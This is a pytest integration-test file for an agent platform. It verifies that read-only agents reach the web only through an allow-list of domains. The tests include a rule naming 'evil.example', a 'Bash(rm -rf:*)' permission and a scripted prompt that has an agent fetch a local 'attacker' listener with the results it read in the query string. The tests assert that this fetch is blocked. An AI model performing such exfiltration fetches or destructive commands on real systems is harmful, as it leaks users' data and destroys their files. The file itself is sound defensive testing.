"""The read-only agents reach the web only as WEB_FETCH_DOMAINS says, whatever the registry holds: the effective
spec (agents.enforce), the runner's real CLI arguments, the REST API's answer to a PUT, and the REAL `claude`
CLI against the stand-in API scripted to WebFetch a local listener with what it read (which must never be reached:
`[[fetch:URL]]` in tests/fakes/fake_anthropic_api.py)."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from agent_machine.domain import agents
from agent_machine.models import AgentSpec, PermissionMode, Task, TaskStatus
from agent_machine.settings import Settings, get_settings
from agent_machine.store import output, registry
from local_runtime.provision import Provisioned

from tests.integration.runner_support import run_task
from tests.integration.test_agent_permissions import WRITES, flag_values, resolved_args
from tests.integration.test_agent_trees_real_cli import (  # noqa: F401 - fixtures, used by name
    Recorder,
    _tool_results,
    real_recorded,
    recording_api,
)
from tests.integration.test_api_registry import send
from tests.integration.test_real_cli import claude_path, init_line  # noqa: F401 - a fixture, used by name

# What a registry copy might hold: every kind of web rule, which the allow-list replaces.
GREEDY = ["Read", "WebFetch", "WebFetch(domain:evil.example)", "WebSearch", "mcp__machine"]


def web_allowed(spec: AgentSpec) -> list[str]:
    return [r for r in spec.allowed_tools if r.startswith(agents.WEB_TOOLS)]


# --- the effective spec -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(agents.READ_ONLY_AGENTS))
def test_no_domains_no_web_tools(name: str) -> None:
    spec = agents.enforce(agents.BUILTIN_AGENTS[name].model_copy(update={"allowed_tools": GREEDY}), [])
    assert web_allowed(spec) == []
    # Disallowed, not just left out: that removes the tools, and with them the CLI's preapproved hosts.
    assert {"WebFetch", "WebSearch"} <= set(spec.disallowed_tools)
    assert "Read" in spec.allowed_tools and "mcp__machine" in spec.allowed_tools


@pytest.mark.parametrize("name", sorted(agents.READ_ONLY_AGENTS))
def test_listed_domains_become_the_only_fetch_rules(name: str) -> None:
    spec = agents.enforce(
        agents.BUILTIN_AGENTS[name].model_copy(update={"allowed_tools": GREEDY}), ["docs.python.org", "*.github.io"]
    )
    assert web_allowed(spec) == ["WebFetch(domain:docs.python.org)", "WebFetch(domain:*.github.io)"]
    assert "WebSearch" in spec.disallowed_tools  # no per-domain rule exists for it
    assert "WebFetch" not in spec.disallowed_tools  # that would remove the tool and its allow rules with it
    assert set(spec.disallowed_tools) >= WRITES


def test_a_star_allows_any_host_and_search() -> None:
    spec = agents.enforce(agents.BUILTIN_AGENTS["brain"], ["*"])
    assert web_allowed(spec) == ["WebFetch", "WebSearch"]
    assert not {"WebFetch", "WebSearch"} & set(spec.disallowed_tools)


def test_planning_gets_the_allow_list_too_and_brain_defaults_to_none() -> None:
    assert web_allowed(agents.enforce(agents.BUILTIN_AGENTS["planning"], ["docs.python.org"])) == [
        "WebFetch(domain:docs.python.org)"
    ]
    assert web_allowed(agents.enforce(agents.BUILTIN_AGENTS["brain"], [])) == []


def test_a_spec_read_back_and_saved_under_another_list_runs_as_that_list() -> None:
    """The dashboard saves what it read: the web rules of one allow-list must not stick under the next."""
    original = agents.BUILTIN_AGENTS["brain"].model_copy(update={"disallowed_tools": ["WebFetch(domain:bad.example)"]})
    for first, second in ((["a.example"], []), ([], ["b.example"]), (["*"], ["c.example"]), (["c.example"], ["*"])):
        saved = agents.enforce(original, first)
        again = agents.enforce(saved, second)
        direct = agents.enforce(original, second)
        assert (again.allowed_tools, sorted(again.disallowed_tools)) == (
            direct.allowed_tools,
            sorted(direct.disallowed_tools),
        ), (first, second)
        assert "WebFetch(domain:bad.example)" in again.disallowed_tools  # a scoped deny only ever narrows


def test_other_agents_keep_their_web_tools() -> None:
    spec = AgentSpec(
        name="researcher", allowed_tools=["WebFetch", "WebSearch"], permission_mode=PermissionMode.DONT_ASK
    )
    assert agents.enforce(spec, []) == spec
    executor = agents.BUILTIN_AGENTS["executor"]
    assert agents.enforce(executor, []) == executor


def test_the_setting_is_validated_and_normalised(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("WEB_FETCH_DOMAINS", " Docs.Python.org , *.GitHub.io,docs.python.org., ")
    assert Settings().web_fetch_domains == ["docs.python.org", "*.github.io"]
    monkeypatch.delenv("WEB_FETCH_DOMAINS")
    assert Settings().web_fetch_domains == []
    for bad in ("docs.python.org)", "a b", "https://docs.python.org", "x.com/path", "*evil.com", "host:443"):
        monkeypatch.setenv("WEB_FETCH_DOMAINS", bad)
        with pytest.raises(ValueError, match="WEB_FETCH_DOMAINS"):
            Settings()


# --- the runner's arguments and the REST API ----------------------------------------------------------------


@pytest.fixture
def work_root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RUNNER_WORK_ROOT", str(tmp_path / "runner"))


def _domains(monkeypatch: pytest.MonkeyPatch, value: str | None) -> None:
    if value is None:
        monkeypatch.delenv("WEB_FETCH_DOMAINS", raising=False)
    else:
        monkeypatch.setenv("WEB_FETCH_DOMAINS", value)
    get_settings.cache_clear()


@pytest.mark.parametrize("name", ["brain", "planning"])
def test_cli_args_with_and_without_domains(
    stack: Provisioned, work_root: None, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    status, _ = send("PUT", f"/api/agents/{name}", {"allowed_tools": GREEDY, "permission_mode": "plan"})
    assert status == 200

    _domains(monkeypatch, None)
    args = resolved_args(name)
    assert not [a for a in flag_values(args, "--allowedTools") if a.startswith(agents.WEB_TOOLS)]
    assert {"WebFetch", "WebSearch"} <= set(flag_values(args, "--disallowedTools"))

    _domains(monkeypatch, "docs.python.org,*.readthedocs.io")
    args = resolved_args(name)
    allowed = flag_values(args, "--allowedTools")
    assert [a for a in allowed if a.startswith(agents.WEB_TOOLS)] == [
        "WebFetch(domain:docs.python.org)",
        "WebFetch(domain:*.readthedocs.io)",
    ]
    disallowed = flag_values(args, "--disallowedTools")
    assert "WebSearch" in disallowed and "WebFetch" not in disallowed and set(disallowed) >= WRITES


def test_put_answers_the_agent_as_it_will_run(stack: Provisioned, monkeypatch: pytest.MonkeyPatch) -> None:
    _domains(monkeypatch, "docs.python.org")
    sent = {"allowed_tools": [*GREEDY, "Write", "Bash(rm -rf:*)"], "permission_mode": "acceptEdits", "model": "opus"}
    status, answer = send("PUT", "/api/agents/brain", sent)
    assert status == 200, answer
    assert answer["allowed_tools"] == ["Read", "mcp__machine", "WebFetch(domain:docs.python.org)"]
    assert set(answer["disallowed_tools"]) >= WRITES | {"WebSearch"}
    assert answer["permission_mode"] == "dontAsk"
    assert answer["model"] == "opus"  # what the read-only rules leave alone is kept as sent
    assert send("GET", "/api/agents/brain")[1] == answer  # and it is what every later read shows

    status, reset = send("POST", "/api/agents/brain/reset")
    assert status == 200 and reset["allowed_tools"][-1] == "WebFetch(domain:docs.python.org)"

    executor = {"allowed_tools": ["Read", "WebFetch", "Bash"], "permission_mode": "acceptEdits"}
    status, answer = send("PUT", "/api/agents/executor", executor)
    assert (status, answer["allowed_tools"], answer["permission_mode"]) == (
        200,
        executor["allowed_tools"],
        "acceptEdits",
    )

    status, created = send("POST", "/api/agents", {"name": "reader", "allowed_tools": ["WebSearch"]})
    assert (status, created["allowed_tools"]) == (201, ["WebSearch"])  # an agent you define is yours to scope


# --- the real CLI -----------------------------------------------------------------------------------------------


@pytest.fixture
def listener() -> Iterator[str]:
    """An HTTP server standing for the attacker's; yields its URL, and checks at the end that nothing reached it."""
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.path)
            self.send_response(200)
            self.send_header("content-length", "2")
            self.end_headers()
            self.wfile.write(b"ok")

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
    assert seen == [], f"the listener was reached: {seen}"


def run_task_as(stack: Provisioned, name: str, prompt: str) -> Task:
    # A few turns: the fetch, and the answer after its result.
    registry.put("agent", agents.BUILTIN_AGENTS[name].model_copy(update={"max_turns": 5}), actor="test")
    return run_task(stack, prompt, agent=name)


def _transcript(task_id: str) -> str:
    """The run's stream-json lines, shortened: for failure messages."""
    return "\n".join(json.dumps(e.payload)[:400] for e in output.read_events(task_id))


def _offered(recorder: Recorder) -> set[str]:
    """The tools the CLI offered the model in its first agent-loop request."""
    requests = recorder.main_requests()
    assert requests, "the CLI made no agent-loop request"
    return {tool["name"] for tool in json.loads(requests[0])["tools"]}


def _denials(task_id: str) -> list[dict[str, Any]]:
    results = [e.payload["data"] for e in output.read_events(task_id) if e.payload.get("kind") == "result"]
    assert results, "no result line"
    denials: list[dict[str, Any]] = results[-1].get("permission_denials") or []
    return denials


@pytest.mark.real_cli
@pytest.mark.timeout(240)
@pytest.mark.parametrize("name", ["brain", "planning"])
def test_the_real_cli_gets_no_web_tools_without_domains(
    stack: Provisioned,
    real_recorded: Recorder,  # noqa: F811 - the fixture imported above
    listener: str,
    monkeypatch: pytest.MonkeyPatch,
    name: str,
) -> None:
    _domains(monkeypatch, None)
    task = run_task_as(stack, name, f"[[fetch:{listener}/?k={{results}}]] read this page")
    assert task.status == TaskStatus.COMPLETED, (task.error, _transcript(task.task_id))
    assert not {"WebFetch", "WebSearch"} & set(init_line(task.task_id)["tools"])  # the CLI took the flags
    assert not {"WebFetch", "WebSearch"} & _offered(real_recorded)  # nor does the model see them
    results = _tool_results(task.task_id)
    assert results and results[0].get("is_error") is True, results
    assert "No such tool available: WebFetch" in json.dumps(results[0].get("content"))


@pytest.mark.real_cli
@pytest.mark.timeout(240)
@pytest.mark.parametrize("name", ["brain", "planning"])
def test_the_real_cli_fetches_only_listed_domains(
    stack: Provisioned,
    real_recorded: Recorder,  # noqa: F811 - the fixture imported above
    listener: str,
    monkeypatch: pytest.MonkeyPatch,
    name: str,
) -> None:
    _domains(monkeypatch, "docs.python.org,*.readthedocs.io")
    task = run_task_as(stack, name, f"[[fetch:{listener}/?k={{results}}]] read this page")
    assert task.status == TaskStatus.COMPLETED, (task.error, _transcript(task.task_id))
    tools = set(init_line(task.task_id)["tools"])
    assert "WebFetch" in tools and "WebSearch" not in tools  # the CLI accepted the domain rules
    assert "WebFetch" in _offered(real_recorded)
    denials = _denials(task.task_id)
    assert [d["tool_name"] for d in denials] == ["WebFetch"], _transcript(task.task_id)  # its rules said no
    assert denials[0]["tool_input"]["url"].startswith(listener)
